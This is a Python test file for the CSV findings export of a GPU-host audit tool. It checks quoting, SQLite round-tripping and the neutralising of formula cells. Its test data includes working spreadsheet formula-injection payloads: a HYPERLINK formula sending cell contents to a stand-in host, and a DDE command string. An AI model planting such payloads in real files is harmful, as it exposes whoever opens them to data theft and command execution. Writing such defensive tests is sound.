# -*- coding: utf-8 -*-
"""findings.csv (issue 37 item 6): one row per failing or unknown finding, RFC 4180, a cell that a
spreadsheet would run as a formula neutralised; read back with Python's csv module and with SQLite's own
CSV reader (the sqlite3 shell's ``.import --csv``)."""
import csv
import io
import shutil
import subprocess

import pytest

from ansible_collections.gpuhost.baseline.plugins.plugin_utils.report.report import build_report, update_hosts
from ansible_collections.gpuhost.baseline.plugins.plugin_utils.report.views_machine import (
    CSV_COLUMNS, csv_cell, render_csv)

GENERATED = "2026-12-07T04:00:00+00:00"
#: what a hostile host could put into a subject or a message (a device name, a log line)
HOSTILE = ('=HYPERLINK("http://x/?"&A1,"ok")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\ttab", "\rcr",
           'quote " and, comma\nand a line')


def finding(rule, status, subject=None, area="pcie", message="m", observed=512):
    return {"id": rule, "title": rule + " title", "area": area, "severity": "high", "status": status,
            "subject": subject, "expected": 4096, "observed": observed, "message": message, "fix": "f",
            "reboot_required": False}


def report():
    hosts = {
        "gpu-01": {"findings": [finding("PCI-001", "fail", "0000:43:00.0"), finding("PCI-004", "pass"),
                                finding("HEALTH-001", "fail", "0000:44:00.0", area="health", observed=["79"])]},
        "gpu-02": {"findings": [finding("PCI-001", "unknown", HOSTILE[0], message=HOSTILE[1]),
                                finding("NUMA-001", "not_applicable", area="numa")]
                   + [finding("PCI-%03d" % (100 + i), "fail", text, message=text) for i, text in enumerate(HOSTILE)]},
        "gpu-03": {"findings": [finding("PCI-001", "pass")]},
    }
    return build_report(hosts, profile="auto", generated=GENERATED, collection_version="0.1.0")


def rows_of(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_one_row_per_failing_or_unknown_finding_with_its_kind():
    text = render_csv(report())
    assert text.endswith("\r\n") and "\r\n" in text.split("\r\n", 1)[0] + "\r\n"
    rows = rows_of(text)
    assert rows[0] == list(CSV_COLUMNS)
    body = [dict(zip(CSV_COLUMNS, row)) for row in rows[1:]]
    assert len(body) == 3 + len(HOSTILE) and {row["status"] for row in body} == {"fail", "unknown"}
    first = body[0]
    assert (first["host"], first["rule"], first["kind"], first["subject"], first["expected"], first["observed"]) == (
        "gpu-01", "PCI-001", "drift", "0000:43:00.0", "4096", "512")
    health = body[1]
    assert health["kind"] == "fault" and health["area"] == "health" and health["observed"] == '["79"]'
    assert first["first_seen"] == ""  # no drift history in this report


def test_no_cell_starts_a_formula_and_every_value_comes_back():
    body = rows_of(render_csv(report()))[1:]
    cells = [cell for row in body for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    subjects = [row[CSV_COLUMNS.index("subject")] for row in body if row[0] == "gpu-02"]
    assert subjects == ["'" + HOSTILE[0]] + [csv_cell(text) for text in HOSTILE]
    # a neutralised cell is the value with one leading apostrophe, nothing else changed
    assert [s[1:] if s.startswith("'") else s for s in subjects[1:]] == list(HOSTILE)


@pytest.mark.parametrize("value, cell", [
    (None, ""), ("plain", "plain"), (0, "0"), (-2, "'-2"), ("=1+1", "'=1+1"), (["79"], '["79"]'),
    ({"a": 1}, '{"a": 1}'), ("é ü", "é ü"),
])
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


def test_sqlite_reads_the_same_rows(tmp_path):
    sqlite = shutil.which("sqlite3")
    assert sqlite, "sqlite3 is not installed: make test-deps installs it (DEB_TEST_PACKAGES)"
    path = tmp_path / "findings.csv"
    text = render_csv(report())
    path.write_bytes(text.encode("utf-8"))
    script = ".import --csv %s findings\nSELECT count(*) FROM findings;\nSELECT subject FROM findings WHERE rule = 'PCI-106';\n" % path
    done = subprocess.run([sqlite, ":memory:"], input=script, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0 and not done.stderr, done.stderr
    count, subject = done.stdout.split("\n", 1)
    assert int(count) == len(rows_of(text)) - 1  # the header row named the columns
    assert subject == 'quote " and, comma\nand a line\n'


def test_first_seen_from_the_drift_history():
    # ``changes`` as the drift history writes it (history.compare): the previous audit and the new fails
    doc = report()
    changes = {"previous": {"time": "2026-12-06T04:00:00+00:00"},
               "new_fails": [{"rule": "HEALTH-001", "subject": "0000:44:00.0"}]}
    update_hosts(doc, {"gpu-01": {"changes": changes}})
    body = [dict(zip(CSV_COLUMNS, row)) for row in rows_of(render_csv(doc))[1:] if row[0] == "gpu-01"]
    assert [(row["rule"], row["first_seen"]) for row in body] == [
        ("PCI-001", "before 2026-12-06T04:00:00+00:00"), ("HEALTH-001", GENERATED)]
